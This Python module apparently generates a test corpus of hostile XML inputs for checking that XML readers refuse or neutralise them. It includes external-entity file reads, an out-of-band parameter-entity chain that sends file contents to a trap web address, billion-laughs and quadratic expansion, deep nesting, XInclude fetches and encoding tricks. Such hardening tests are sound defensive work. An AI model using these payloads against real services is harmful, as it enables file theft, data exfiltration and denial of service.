"""What has been done to readers of XML, put into a document that is otherwise good (OWASP XML External Entity, XML Security)."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Final, NamedTuple


class Trap(NamedTuple):
    """What must not be touched: a file that nobody reads, an address that nobody asks."""

    file: str
    web: str


Attack = Callable[["Document", Trap], bytes]
XI: Final = "http://www.w3.org/2001/XInclude"
XSI: Final = "http://www.w3.org/2001/XMLSchema-instance"


class Document:
    """A good document, cut where something can be put in."""

    def __init__(self, body: bytes) -> None:
        text = re.sub(rb"^\s*<\?xml.*?\?>\s*", b"", body, flags=re.DOTALL).decode("utf-8")
        found = re.match(r"(?:<!--.*?-->\s*)*<([A-Za-z_][\w.:-]*)", text, re.DOTALL)
        assert found is not None
        self.name = found[1]
        self.text = text[found.start(1) - 1 :]
        start = re.match(r"<[^>]*>", self.text)
        assert start is not None
        self.start, self.rest = start[0], self.text[start.end() :]

    def with_prolog(self, prolog: str) -> bytes:
        return f"{prolog}{self.text}".encode()

    def within(self, inside: str, prolog: str = "") -> bytes:
        """Something as the first of what the root holds."""
        return f"{prolog}{self.start}{inside}{self.rest}".encode()

    def attributes(self, said: str) -> bytes:
        """Attributes of the root beside its own."""
        return f"<{self.name} {said} {self.text[len(self.name) + 1 :]}".encode()

    def doctype(self, said: str, inside: str = "") -> bytes:
        return self.within(inside, f"<!DOCTYPE {self.name} {said}>")


def laughs(ten: int) -> str:
    """Entities of ten of the one before."""
    lines = ['<!ENTITY a0 "ha">', *(f'<!ENTITY a{nth} "{f"&a{nth - 1};" * 10}">' for nth in range(1, ten))]
    return f"[{''.join(lines)}]"


def many(form: str, count: int) -> str:
    """A form with each number in the place of ``#``."""
    return " ".join(form.replace("#", str(nth)) for nth in range(count))


def floods(piece: str, count: int) -> Attack:
    return lambda document, trap: document.within(piece * count)


def utf7(text: str) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-7"?>' + text.replace("<", "+ADw-").replace(">", "+AD4-").replace("&", "+ACY-").encode()
    )


def entity(document: Document, address: str) -> str:
    return document.doctype(f'[<!ENTITY x SYSTEM "{address}">]', "&x;").decode()


ATTACKS: Final[dict[str, Attack]] = {
    "doctype": lambda d, t: d.doctype(""),
    "doctype-html": lambda d, t: d.with_prolog("<!DOCTYPE html>"),
    "doctype-after-comment": lambda d, t: d.with_prolog("<!-- <a> -->\n<?p <b> ?><!DOCTYPE x>"),
    "internal-entity": lambda d, t: d.doctype('[<!ENTITY x "y">]', "&x;"),
    "entity-in-attribute": lambda d, t: f'<!DOCTYPE {d.name} [<!ENTITY x "y">]>'.encode() + d.attributes('a="&x;"'),
    "external-entity-file": lambda d, t: entity(d, t.file).encode(),
    "external-entity-web": lambda d, t: entity(d, f"{t.web}/entity").encode(),
    "external-entity-public": lambda d, t: d.doctype(f'[<!ENTITY x PUBLIC "-//x" "{t.web}/public">]', "&x;"),
    "unparsed-entity": lambda d, t: d.doctype(f'[<!NOTATION n SYSTEM "{t.web}/n"><!ENTITY x SYSTEM "{t.file}" NDATA n>]'),
    "external-subset-file": lambda d, t: d.doctype(f'SYSTEM "{t.file}"'),
    "external-subset-web": lambda d, t: d.doctype(f'SYSTEM "{t.web}/subset"'),
    "parameter-entity-file": lambda d, t: d.doctype(f'[<!ENTITY % p SYSTEM "{t.file}"> %p;]'),
    "parameter-entity-web": lambda d, t: d.doctype(f'[<!ENTITY % p SYSTEM "{t.web}/p"> %p;]'),
    "parameter-entity-out-of-band": lambda d, t: d.doctype(
        f"""[<!ENTITY % f SYSTEM "{t.file}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM '{t.web}/?%f;'>"> %e; %s;]"""
    ),
    "default-attribute": lambda d, t: d.doctype(f'[<!ATTLIST {d.name} a CDATA "{"x" * 1000}">]'),
    "billion-laughs": lambda d, t: d.doctype(laughs(10), "&a9;"),
    "laughs-in-parameters": lambda d, t: d.doctype('[<!ENTITY % a "ha"><!ENTITY % b "%a;%a;"> %b;]'),
    "quadratic": lambda d, t: d.doctype(f'[<!ENTITY x "{"y" * 100_000}">]', "&x;" * 10_000),
    "recursion": lambda d, t: d.doctype('[<!ENTITY a "&b;"><!ENTITY b "&a;">]', "&a;"),
    "undeclared-entity": lambda d, t: d.within("&nothing;"),
    "deep": lambda d, t: d.within("<a>" * 100_000 + "</a>" * 100_000),
    "deep-unclosed": lambda d, t: d.within("<a>" * 300_000),
    "deep-as-may-be": lambda d, t: d.within("<a>" * 190 + "</a>" * 190),
    "attribute-of-megabytes": lambda d, t: d.attributes(f'a="{"x" * 2_000_000}"'),
    "attributes": lambda d, t: d.attributes(many('a#="x"', 50_000)),
    "attributes-within": lambda d, t: d.within(f"<a {many('a#=0', 20_000)}/>".replace("=0", '="x"')),
    "namespaces": lambda d, t: d.attributes(many('xmlns:n#="urn:#"', 20_000)),
    "namespaces-within-each-other": lambda d, t: d.within(many('<a xmlns="urn:#" xmlns:p#="urn:p">', 180) + "</a>" * 180),
    "name-of-megabytes": lambda d, t: d.within(f"<{'a' * 1_000_000}/>"),
    "text-of-megabytes": lambda d, t: d.within("x" * 2_000_000),
    "elements": floods("<a/>", 400_000),
    "elements-of-other-names": lambda d, t: d.within(many("<a#/>", 100_000)),
    "cdata": floods("<![CDATA[x]]>", 100_000),
    "cdata-unclosed": lambda d, t: d.within("<![CDATA[" + "x" * 100_000),
    "comments": floods("<!--x-->", 200_000),
    "comment-of-megabytes": lambda d, t: d.within(f"<!--{'x' * 2_000_000}-->"),
    "comments-before": lambda d, t: d.with_prolog("<!--x-->" * 100_000),
    "instructions": floods("<?x y?>", 200_000),
    "instructions-before": lambda d, t: d.with_prolog("<?x y?>" * 100_000),
    "references": floods("&#65;", 300_000),
    "reference-to-nothing": floods("&#0;", 1),
    "stylesheet": lambda d, t: d.with_prolog(f'<?xml-stylesheet type="text/xsl" href="{t.web}/style"?>'),
    "stylesheet-file": lambda d, t: d.with_prolog(f'<?xml-stylesheet type="text/css" href="{t.file}"?>'),
    "xinclude-file": lambda d, t: d.within(f'<i:include xmlns:i="{XI}" href="{t.file}" parse="text"/>'),
    "xinclude-web": lambda d, t: d.within(f'<i:include xmlns:i="{XI}" href="{t.web}/include"/>'),
    "schema-location": lambda d, t: d.attributes(f'xmlns:zz="{XSI}" zz:schemaLocation="urn:x {t.web}/schema"'),
    "no-namespace-schema": lambda d, t: d.attributes(f'xmlns:zz="{XSI}" zz:noNamespaceSchemaLocation="{t.file}"'),
    "xml-base": lambda d, t: d.attributes(f'xml:base="{t.web}/"'),
    "namespace-that-is-an-address": lambda d, t: d.within(f'<a xmlns="{t.web}/namespace"/>'),
    "utf-7": lambda d, t: utf7(entity(d, t.file)),
    "utf-16-le": lambda d, t: b"\xff\xfe" + entity(d, t.file).encode("utf-16-le"),
    "utf-16-be": lambda d, t: b"\xfe\xff" + entity(d, t.web).encode("utf-16-be"),
    "utf-16-without-mark": lambda d, t: entity(d, t.file).encode("utf-16-le"),
    "utf-16-that-says-utf-8": lambda d, t: (
        b"\xff\xfe" + f'<?xml version="1.0" encoding="utf-8"?>{entity(d, t.file)}'.encode("utf-16-le")
    ),
    "utf-8-that-says-utf-16": lambda d, t: f'<?xml version="1.0" encoding="utf-16"?>{entity(d, t.file)}'.encode(),
    "utf-32": lambda d, t: entity(d, t.file).encode("utf-32"),
    "ebcdic": lambda d, t: f'<?xml version="1.0" encoding="cp037"?>{entity(d, t.file)}'.encode("cp037", "replace"),
    "an-encoding-of-nobody": lambda d, t: f'<?xml version="1.0" encoding="x-{"y" * 10_000}"?>{entity(d, t.file)}'.encode(),
    "latin-1-that-says-utf-8": lambda d, t: d.within("").replace(b">", b">\xe9\xff", 1),
    "overlong": lambda d, t: d.within("").replace(b">", b">\xc0\xbc!DOCTYPE x\xc0\xbe", 1),
    "nulls": lambda d, t: d.within("").replace(b">", b">\0\0\0", 1),
    "two-declarations": lambda d, t: d.with_prolog('<?xml version="1.0"?><?xml version="1.0"?>'),
    "version-9": lambda d, t: d.with_prolog('<?xml version="9.9"?>'),
    "two-roots": lambda d, t: d.with_prolog(d.text),
    "cut-short": lambda d, t: d.text.encode()[: len(d.text) // 2],
}
"""By name. Where a document is not refused for them they must be harmless."""
